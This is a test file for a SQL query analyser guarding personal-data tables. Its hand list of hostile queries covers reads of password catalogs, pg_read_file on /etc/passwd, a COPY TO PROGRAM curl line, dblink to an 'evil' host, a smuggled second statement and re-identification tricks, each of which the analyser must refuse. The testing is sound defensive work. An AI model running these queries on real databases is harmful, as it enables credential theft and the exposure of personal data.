import { beforeAll, describe, expect, it } from 'vitest';
import { parseSync } from 'libpg-query';
import { analyseRecipe, loadRecipeParser, type RecipeResult, type ViolationCode } from '../src/index.js';
import { recipe } from './fixtures.js';

beforeAll(() => loadRecipeParser());

const codes = (r: RecipeResult) => (r.ok ? [] : r.violations.map((v) => v.code));

/** [what, sql, the code it must be refused with, extra declared outputs] */
const HOSTILE: [string, string, ViolationCode, Record<string, 'MASKED' | 'FLAG'>?][] = [
  ['pg_catalog table', 'select rolname as x from pg_catalog.pg_authid', 'TABLE_NOT_ALLOWED'],
  ['unqualified catalog table', 'select rolname as x from pg_authid', 'TABLE_NOT_ALLOWED'],
  ['information_schema', 'select table_name as x from information_schema.tables', 'TABLE_NOT_ALLOWED'],
  ['another resource', 'select name as x from r_hn_other_resource', 'TABLE_NOT_ALLOWED'],
  ['raw.other', 'select name as x from raw.other', 'TABLE_NOT_ALLOWED'],
  ['allowed table name in another schema', 'select name as x from public.r_hn_market_enterprise', 'TABLE_NOT_ALLOWED'],
  ['catalog-qualified name', 'select name as x from otherdb.raw.r_hn_market_enterprise', 'TABLE_NOT_ALLOWED'],
  ['quoted name of other case', 'select name as x from "R_HN_MARKET_ENTERPRISE"', 'TABLE_NOT_ALLOWED'],
  ['unicode-escaped catalog name', 'select rolname as x from U&"pg\\0061uthid"', 'TABLE_NOT_ALLOWED'],
  ['a view name', 'select name as x from v_enterprise_public', 'TABLE_NOT_ALLOWED'],
  ['search_path trick', 'set search_path to public, raw; select name as x from r_hn_market_enterprise', 'MULTIPLE_STATEMENTS'],
  ['search_path statement alone', 'set search_path to public', 'NOT_A_SELECT'],
  ['line comment hiding a second statement', 'select 1 as x -- harmless\n; delete from raw.r_jl_marriage', 'MULTIPLE_STATEMENTS'],
  ['block comment before a second statement', 'select 1 as x /* ok */; drop table raw.r_jl_marriage', 'MULTIPLE_STATEMENTS'],
  ['second statement is not a select', 'select 1 as x; update raw.r_jl_marriage set region = null', 'NOT_A_SELECT'],
  ['writing CTE', 'with d as (delete from raw.r_jl_marriage returning id_number) select count(*) as n from r_jl_marriage', 'WRITING_CTE'],
  ['inserting CTE', "with d as (insert into raw.r_jl_marriage (region) values ('x') returning region) select region from d", 'WRITING_CTE'],
  ['for update', 'select name as x from r_hn_market_enterprise for update', 'LOCKING_CLAUSE'],
  ['for share', 'select name as x from r_hn_market_enterprise for key share', 'LOCKING_CLAUSE'],
  ['select into', 'select name as x into stolen from r_hn_market_enterprise', 'SELECT_INTO'],
  ['copy', 'copy raw.r_jl_marriage to stdout', 'NOT_A_SELECT'],
  ['copy program', "copy (select 1) to program 'curl evil'", 'NOT_A_SELECT'],
  ['explain', 'explain analyze select name as x from r_hn_market_enterprise', 'NOT_A_SELECT'],
  ['do block', 'do $$ begin perform 1; end $$', 'NOT_A_SELECT'],
  ['call', 'call do_things()', 'NOT_A_SELECT'],
  ['lock', 'lock table raw.r_jl_marriage', 'NOT_A_SELECT'],
  ['merge', 'merge into raw.r_jl_marriage m using raw.r_jl_marriage s on true when matched then delete', 'NOT_A_SELECT'],
  ['pg_sleep', 'select pg_sleep(10) as x', 'FUNCTION_NOT_ALLOWED'],
  ['pg_sleep inside an allowed function', 'select round(pg_sleep(1)::int) as x from r_hn_market_enterprise', 'FUNCTION_NOT_ALLOWED'],
  ['dblink in FROM', "select x from dblink('host=evil', 'select 1') as t(x int)", 'FUNCTION_IN_FROM'],
  ['dblink_exec', "select dblink_exec('host=evil', 'drop table t') as x", 'FUNCTION_NOT_ALLOWED'],
  ['generate_series in FROM', 'select g as x from generate_series(1, 10) g', 'FUNCTION_IN_FROM'],
  ['pg_read_file in FROM', "select f as x from pg_read_file('/etc/passwd') f", 'FUNCTION_IN_FROM'],
  ['pg_read_file', "select pg_read_file('/etc/passwd') as x", 'FUNCTION_NOT_ALLOWED'],
  ['lo_import', "select lo_import('/etc/passwd') as x", 'FUNCTION_NOT_ALLOWED'],
  ['set_config', "select set_config('search_path', 'public', false) as x", 'FUNCTION_NOT_ALLOWED'],
  ['current_setting', "select current_setting('data_directory') as x", 'FUNCTION_NOT_ALLOWED'],
  ['txid_current', 'select txid_current() as x', 'FUNCTION_NOT_ALLOWED'],
  ['nextval', "select nextval('s') as x", 'FUNCTION_NOT_ALLOWED'],
  ['query_to_xml', "select query_to_xml('select * from pg_authid', true, true, '') as x", 'FUNCTION_NOT_ALLOWED'],
  ['admin function', 'select pg_terminate_backend(1) as x', 'FUNCTION_NOT_ALLOWED'],
  ['schema-qualified allowed name', 'select public.lower(name) as x from r_hn_market_enterprise', 'FUNCTION_NOT_ALLOWED'],
  ['current_user', 'select current_user as x', 'FUNCTION_NOT_ALLOWED'],
  ['string_agg of a subject column', "select string_agg(id_number, ',') as n from r_jl_marriage", 'FUNCTION_NOT_ALLOWED'],
  ['cast to regclass', "select 'pg_authid'::regclass as x", 'CAST_NOT_ALLOWED'],
  ['cast to oid', 'select penalty_count::oid as x from r_hn_market_enterprise', 'CAST_NOT_ALLOWED'],
  ['cast to regproc', "select cast('pg_sleep' as regproc) as x", 'CAST_NOT_ALLOWED'],
  ['nested subqueries reading a forbidden table', 'select name as x from r_hn_market_enterprise where name in (select rolname from (select rolname from pg_roles) r)', 'TABLE_NOT_ALLOWED'],
  ['EXISTS over a forbidden table', 'select name as x from r_hn_market_enterprise where exists (select 1 from pg_shadow)', 'TABLE_NOT_ALLOWED'],
  ['scalar subquery over a forbidden table', 'select (select passwd from pg_shadow limit 1) as x', 'TABLE_NOT_ALLOWED'],
  ['UNION with a forbidden table', 'select name as x from r_hn_market_enterprise union all select passwd from pg_shadow', 'TABLE_NOT_ALLOWED'],
  ['CTE named like an allowed table over a forbidden one', 'with r_hn_market_enterprise as (select usename as name from pg_user) select name as x from r_hn_market_enterprise', 'TABLE_NOT_ALLOWED'],
  ['subquery alias named like an allowed table over a forbidden one', 'select name as x from (select rolname as name from pg_roles) r_hn_market_enterprise', 'TABLE_NOT_ALLOWED'],
  ['subquery alias named like an allowed table renaming a sensitive field', 'select r_hn_market_enterprise.name as x from (select legal_rep_id as name from r_hn_market_enterprise) r_hn_market_enterprise', 'SENSITIVE_COLUMN_RAW'],
  ['CTE column list renaming a sensitive field', 'with c(name) as (select legal_rep_id from r_hn_market_enterprise) select name as x from c', 'SENSITIVE_COLUMN_RAW'],
  ['LATERAL', 'select e.name as x from r_hn_market_enterprise e, lateral (select m.region from r_jl_marriage m where m.region = e.region) l', 'LATERAL_NOT_ALLOWED'],
  ['raw sensitive column', 'select legal_rep_id as x from r_hn_market_enterprise where credit_code = $1', 'SENSITIVE_COLUMN_RAW'],
  ['sensitive column behind a cast', 'select legal_rep_id::text as x from r_hn_market_enterprise', 'SENSITIVE_COLUMN_RAW'],
  ['sensitive column behind lower()', 'select lower(legal_rep_id) as x from r_hn_market_enterprise', 'SENSITIVE_COLUMN_RAW'],
  ['sensitive column behind coalesce', "select coalesce(revenue, 0) as x from r_hn_market_enterprise", 'SENSITIVE_COLUMN_RAW'],
  ['sensitive column as a CASE result', 'select case when true then legal_rep_id end as x from r_hn_market_enterprise', 'SENSITIVE_COLUMN_RAW'],
  ['sensitive column through a CTE', 'with c as (select legal_rep_id as y from r_hn_market_enterprise) select y as x from c', 'SENSITIVE_COLUMN_RAW'],
  ['sensitive column through a subquery', 'select y as x from (select revenue as y from r_hn_market_enterprise) s', 'SENSITIVE_COLUMN_RAW'],
  ['sensitive column in GROUP BY as output LABEL', 'select marital_status as region, count(*) as n from r_jl_marriage group by marital_status', 'SENSITIVE_COLUMN_RAW'],
  ['max() of a sensitive column', 'select region, max(revenue) as n from r_hn_market_enterprise group by region', 'SENSITIVE_COLUMN_RAW'],
  ['sensitive predicate as DERIVED', 'select (revenue > 1000000) as x from r_hn_market_enterprise', 'SENSITIVE_COLUMN_RAW'],
  ['mask wider than allowed', 'select left(legal_rep_id, 18) as m from r_hn_market_enterprise', 'MASK_TOO_WIDE', { m: 'MASKED' }],
  ['masks that add up', 'select left(legal_rep_id, 6) as m, right(legal_rep_id, 6) as m2 from r_hn_market_enterprise', 'MASK_TOO_WIDE', { m: 'MASKED', m2: 'MASKED' }],
  ['mask with a parameter width', 'select left(legal_rep_id, $1::int) as m from r_hn_market_enterprise', 'FUNCTION_NOT_ALLOWED', { m: 'MASKED' }],
  ['mask with a negative width', 'select left(legal_rep_id, -1) as m from r_hn_market_enterprise', 'SENSITIVE_COLUMN_RAW', { m: 'MASKED' }],
  ['substring with a regular expression', "select substring(name from '(a+)+$') as x from r_hn_market_enterprise", 'FUNCTION_NOT_ALLOWED'],
  ['substring SIMILAR', "select substring(name similar '%#\"a#\"%' escape '#') as x from r_hn_market_enterprise", 'FUNCTION_NOT_ALLOWED'],
  ['differencing: filter on the subject', "select region, count(*) as n from r_hn_social_security where person_id <> '410101199001011234' group by region", 'SUBJECT_FILTER'],
  ['differencing: conditional aggregate on the subject', "select region, sum(case when person_id = 'x' then monthly_wage end) as n from r_hn_social_security group by region", 'SUBJECT_FILTER'],
  ['differencing: FILTER on the subject', "select region, count(*) filter (where person_id = $1) as n from r_hn_social_security group by region", 'SUBJECT_FILTER'],
  ['group smaller than k by the subject', 'select person_id as region, count(*) as n from r_hn_social_security group by person_id', 'SENSITIVE_COLUMN_RAW'],
  ['SELECT *', 'select * from r_hn_market_enterprise', 'SELECT_STAR'],
  ['t.*', 'select e.* from r_hn_market_enterprise e', 'SELECT_STAR'],
  ['TABLE statement', 'table r_jl_marriage', 'SELECT_STAR'],
  ['whole-row reference', 'select e as x from r_hn_market_enterprise e', 'UNKNOWN_COLUMN'],
  ['undeclared output', 'select name as secret_out from r_hn_market_enterprise', 'UNDECLARED_OUTPUT'],
  ['unnamed output', 'select upper(name) from r_hn_market_enterprise', 'UNNAMED_OUTPUT'],
  ['undeclared parameter', 'select name as x from r_hn_market_enterprise where credit_code = $3', 'PARAMETER_NOT_DECLARED'],
  ['window function', 'select sum(penalty_count) over () as n from r_hn_market_enterprise', 'WINDOW_NOT_ALLOWED'],
  ['aggregate leaving through a derived table', 'select region, n from (select region, count(*) as n from r_hn_social_security group by region) s', 'AGGREGATE_NOT_TOP_LEVEL'],
  ['aggregate leaving through a scalar subquery', 'select (select count(*) from r_jl_marriage) as x', 'AGGREGATE_NOT_TOP_LEVEL'],
  ['aggregate over a CTE', 'with c as (select region from r_jl_marriage) select region, count(*) as n from c group by region', 'AGGREGATE_FROM_NOT_TABLE'],
  ['subquery in an aggregate output', 'select region, count(*) as n, (select count(*) from r_jl_marriage) as x from r_hn_social_security group by region', 'SUBQUERY_IN_OUTPUT'],
  ['recursive CTE', 'with recursive c(n) as (select 1 union all select n + 1 from c) select n as x from c', 'RECURSIVE_CTE'],
  ['regular expression operator (ReDoS)', "select name as x from r_hn_market_enterprise where name ~ '(a+)+$'", 'OPERATOR_NOT_ALLOWED'],
  ['SIMILAR TO', "select name as x from r_hn_market_enterprise where name similar to '%a%'", 'OPERATOR_NOT_ALLOWED'],
  ['VALUES', 'values (1)', 'NODE_NOT_ALLOWED'],
  ['TABLESAMPLE', 'select name as x from r_hn_market_enterprise tablesample system (10)', 'NODE_NOT_ALLOWED'],
  ['deeply nested functions', `select ${'abs('.repeat(1000)}1${')'.repeat(1000)} as x`, 'TOO_COMPLEX'],
  ['deeply nested subqueries', `select x from ${'(select x from '.repeat(1000)}(select 1 as x) s0${') s'.repeat(1000)}`, 'TOO_COMPLEX'],
  ['a very long recipe', `select 1 as x from r_jl_marriage where region in (${Array.from({ length: 20000 }, (_, i) => `'${i}'`).join(',')})`, 'TOO_COMPLEX'],
  ['parse error', 'selec name from', 'PARSE_ERROR'],
  ['empty', ' ; ', 'EMPTY_RECIPE'],
  ['FILTER inside an aggregate', "select region, sum(monthly_wage) filter (where gender = 'F') as n from r_hn_social_security group by region", 'CONDITIONAL_AGGREGATE'],
  ['CASE inside an aggregate', "select region, sum(case when age = 37 then monthly_wage else 0 end) as n from r_hn_social_security group by region", 'CONDITIONAL_AGGREGATE'],
  ['comparison cast to a number inside an aggregate', 'select region, sum(monthly_wage * (age = 37)::int) as n from r_hn_social_security group by region', 'CONDITIONAL_AGGREGATE'],
  ['ambiguous column', 'select region, count(*) as n from r_jl_marriage, r_hn_social_security group by region', 'AMBIGUOUS_COLUMN'],
  ['subject constant hidden in a join condition', "select s.region, count(*) as n from r_hn_social_security s join r_jl_marriage m on s.person_id = m.id_number and m.id_number = 'x' group by s.region", 'SUBJECT_FILTER'],
  ['union producing aggregates', 'select count(*) as n from r_jl_marriage union select count(*) from r_hn_social_security', 'SET_OPERATION_AGGREGATE'],
];

describe('hostile recipes (hand list)', () => {
  it.each(HOSTILE)('%s is refused', async (_what, sql, code, outputs) => {
    const result = await analyseRecipe(recipe(sql, outputs));
    expect(result.ok).toBe(false);
    expect(codes(result)).toContain(code);
    if (!result.ok) for (const v of result.violations) expect(v.messageZh && v.messageEn).toBeTruthy();
  });
});

describe('accepted recipes', () => {
  it('credit-score API: one enterprise by $1, SCORE over non-sensitive features', async () => {
    const sql = `select round(coalesce(registered_capital, 0) / 10000
                   + case when penalty_count = 0 then 30 else 0 end
                   + least(extract(year from current_date) - extract(year from established), 20)) as score
                 from r_hn_market_enterprise where credit_code = $1`;
    const result = await analyseRecipe(recipe(sql));
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    expect(result.analysis.aggregate).toBe(false);
    expect(result.analysis.columns).toEqual([{
      name: 'score', kind: 'SCORE', aggregated: false, masked: false, reduced: [],
      sources: ['r_hn_market_enterprise.established', 'r_hn_market_enterprise.penalty_count', 'r_hn_market_enterprise.registered_capital'],
    }]);
    expect(result.analysis.parameters).toEqual([{ number: 1, name: 'code', type: 'text' }]);
    expect(result.analysis.executableSql).toContain('"raw"."r_hn_market_enterprise" AS "r_hn_market_enterprise"');
    expect(result.analysis.sqlSha256).toMatch(/^[0-9a-f]{64}$/);
    expect(result.analysis.reviewNotes).not.toContain(expect.stringMatching(/^ROW_LEVEL_UNFILTERED/));
  });

  it('notes row-level recipes that no parameter selects', async () => {
    const result = await analyseRecipe(recipe('select name as x from r_hn_market_enterprise'));
    expect(result.ok && result.analysis.reviewNotes.some((n) => n.startsWith('ROW_LEVEL_UNFILTERED'))).toBe(true);
  });

  it('marriage-status VERIFICATION: a FLAG comparing the sensitive status with the claimed one', async () => {
    const result = await analyseRecipe(recipe('select (marital_status = $2) as flag from r_jl_marriage where id_number = $1'));
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    expect(result.analysis.columns[0]).toMatchObject({ name: 'flag', kind: 'FLAG', reduced: ['r_jl_marriage.marital_status'] });
  });

  it('aggregate REPORT with GROUP BY: the executable SQL counts distinct subjects per group', async () => {
    const sql = "select region, count(*) as n, round(avg(monthly_wage)) as avg_wage from r_hn_social_security where age >= 18 and gender = '女' group by 1 order by n desc";
    const result = await analyseRecipe(recipe(sql, { avg_wage: 'AGGREGATE' } as never));
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    const a = result.analysis;
    expect(a.aggregate).toBe(true);
    expect(a.kColumn).toBe('__k');
    expect(a.subjects).toEqual(['"r_hn_social_security"."person_id"']);
    expect(a.executableSql).toContain('count(DISTINCT "r_hn_social_security"."person_id") AS __k');
    const stmts = parseSync(a.executableSql).stmts ?? [];
    expect(stmts).toHaveLength(1);
    const targets = (stmts[0]!.stmt as { SelectStmt: { targetList: { ResTarget: { name?: string } }[] } }).SelectStmt.targetList;
    expect(targets.map((t) => t.ResTarget.name)).toEqual([undefined, 'n', 'avg_wage', '__k']);
    expect(a.columns.find((c) => c.name === 'avg_wage')).toMatchObject({ aggregated: true, sources: ['r_hn_social_security.monthly_wage'] });
  });

  it('a join of two resources counts the smaller of both subject sets', async () => {
    const sql = 'select s.region, count(*) as n from r_hn_social_security s join r_jl_marriage m on s.person_id = m.id_number group by s.region';
    const result = await analyseRecipe(recipe(sql));
    expect(result.ok).toBe(true);
    if (result.ok) expect(result.analysis.executableSql).toContain('LEAST(count(DISTINCT "s"."person_id"), count(DISTINCT "m"."id_number")) AS __k');
  });

  it('MASKED: a short prefix of a sensitive value; qualified physical names are kept', async () => {
    const sql = 'select left(legal_rep_id, 4) as rep, name as x from raw.r_hn_market_enterprise where credit_code = $1';
    const result = await analyseRecipe(recipe(sql, { rep: 'MASKED' }));
    expect(result.ok).toBe(true);
    if (result.ok) {
      expect(result.analysis.columns[0]).toMatchObject({ name: 'rep', masked: true });
      expect(result.analysis.executableSql).toBe(sql);
    }
  });

  it('records the filtering fields; ONLY and a parenthesised join still get the k column', async () => {
    const sql = 'select count(*) as n from (only r_jl_marriage m join r_hn_social_security s on m.id_number = s.person_id and m.region = s.region) where s.age > 60';
    const result = await analyseRecipe(recipe(sql));
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    expect(result.analysis.filters).toEqual(['r_hn_social_security.age', 'r_hn_social_security.person_id', 'r_hn_social_security.region', 'r_jl_marriage.id_number', 'r_jl_marriage.region']);
    expect(result.analysis.executableSql).toContain('AS __k from (only "raw"."r_jl_marriage" m join "raw"."r_hn_social_security" s on');
  });

  it('notes a range or pattern predicate on a sensitive field for the reviewer', async () => {
    const oracle = await analyseRecipe(recipe('select (legal_rep_id like $2) as flag from r_hn_market_enterprise where credit_code = $1'));
    expect(oracle.ok && oracle.analysis.reviewNotes.some((n) => n.startsWith('SENSITIVE_RANGE_PREDICATE'))).toBe(true);
    const equality = await analyseRecipe(recipe('select (legal_rep_id = $2) as flag from r_hn_market_enterprise where credit_code = $1'));
    expect(equality.ok && equality.analysis.reviewNotes.some((n) => n.startsWith('SENSITIVE_RANGE_PREDICATE'))).toBe(false);
  });

  it('a comment containing a statement is only a comment', async () => {
    const result = await analyseRecipe(recipe('select 1 as x /* ; delete from raw.r_jl_marriage */'));
    expect(result.ok).toBe(true);
  });

  it('a declaration with k below 2 or a reserved output name is refused', async () => {
    expect(codes(await analyseRecipe(recipe('select 1 as x', {}, { k: 1 })))).toEqual(['INVALID_DECLARATION']);
    expect(codes(await analyseRecipe(recipe('select 1 as x', { __k: 'DERIVED' } as never)))).toContain('RESERVED_OUTPUT');
  });
});
